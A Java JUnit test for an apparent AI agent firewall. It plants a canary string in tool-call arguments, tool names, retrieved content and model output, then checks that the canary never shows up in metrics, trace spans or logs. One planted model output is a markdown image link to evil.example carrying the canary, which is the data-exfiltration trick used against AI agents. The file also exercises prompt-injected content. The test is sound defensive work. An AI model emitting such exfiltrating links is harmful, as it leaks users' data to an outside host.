package dev.agentfirewall.observe;

import static org.assertj.core.api.Assertions.assertThat;

import dev.agentfirewall.call.Effect;
import dev.agentfirewall.call.ProposedCall;
import dev.agentfirewall.call.ToolDescriptor;
import dev.agentfirewall.enforcement.Content;
import dev.agentfirewall.enforcement.ToolOutput;
import io.micrometer.core.instrument.MeterRegistry;
import io.micrometer.prometheusmetrics.PrometheusMeterRegistry;
import io.opentelemetry.sdk.OpenTelemetrySdk;
import io.opentelemetry.sdk.testing.exporter.InMemorySpanExporter;
import io.opentelemetry.sdk.trace.SdkTracerProvider;
import io.opentelemetry.sdk.trace.export.SimpleSpanProcessor;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** Canaries planted wherever a text can come in turn up in no metric, span or log, in none of the ways in which they could be written. */
class TellsNothingTest {
    private static final String CANARY = "Kanarienvogel7319";

    private final PrometheusMeterRegistry registry = Scrape.registry();
    private final InMemorySpanExporter spans = InMemorySpanExporter.create();
    private final OpenTelemetrySdk telemetry = OpenTelemetrySdk.builder()
            .setTracerProvider(SdkTracerProvider.builder()
                    .addSpanProcessor(SimpleSpanProcessor.create(spans))
                    .build())
            .build();
    private final Office office = new Office(Observability.micrometer(registry).opentelemetry(telemetry));

    @Test
    void canaries_inEveryInput_turnUpNowhere() {
        String logged = logged(this::plant);

        assertThat(spans.getFinishedSpanItems()).hasSizeGreaterThan(30);
        assertThat(Scrape.of(registry).value("agent_firewall_calls_total")).isEqualTo(8);
        for (String sink :
                List.of(registry.scrape(), spans.getFinishedSpanItems().toString(), meters(), logged)) {
            assertThat(sink.toLowerCase(Locale.ROOT)).doesNotContain(CANARY.toLowerCase(Locale.ROOT));
        }
    }

    private void plant() {
        guard(Office.SEND, "{\"to\":\"" + CANARY + "@acme.example\",\"subject\":\"" + CANARY + "\"}");
        guard(Office.SEND, "{\"" + CANARY + "\":1,\"to\":\"bob@acme.example\"}");
        guard(Office.SEND, "{\"" + CANARY);
        guard(ToolDescriptor.undeclared(CANARY), "{}");
        guard(ToolDescriptor.declared("two words " + CANARY, Effect.READ, Map.of()), "{}");
        office.call(Office.SEND, Office.TO_BOB, CANARY + " " + Office.INJECTED);
        office.call(Office.DELETE, "{\"id\":\"" + CANARY + "\"}", CANARY);
        office.firewall().guard(office.asked(), new ProposedCall(CANARY, Office.SEND, Office.TO_BOB), call -> {
            throw new IllegalStateException(CANARY);
        });
        office.read(CANARY + " " + Office.INJECTED);
        office.firewall().screen(office.asked(), Content.retrieved(CANARY, CANARY));
        office.firewall().screen(office.asked(), Content.modelOutput("![](https://evil.example/" + CANARY + ")"));
        office.firewall().offer(office.asked(), ToolDescriptor.undeclared(CANARY), CANARY);
    }

    private void guard(ToolDescriptor tool, String arguments) {
        office.firewall()
                .guard(office.asked(), new ProposedCall(CANARY, tool, arguments), call -> ToolOutput.text(CANARY));
    }

    private String meters() {
        StringBuilder all = new StringBuilder();
        MeterRegistry any = registry;
        any.getMeters().forEach(meter -> all.append(meter.getId()).append('\n'));
        return all.toString();
    }

    private static String logged(Runnable work) {
        ByteArrayOutputStream written = new ByteArrayOutputStream();
        PrintStream out = System.out;
        PrintStream err = System.err;
        PrintStream both = new PrintStream(written, true, StandardCharsets.UTF_8);
        System.setOut(both);
        System.setErr(both);
        try {
            work.run();
        } finally {
            System.setOut(out);
            System.setErr(err);
        }
        return written.toString(StandardCharsets.UTF_8);
    }
}
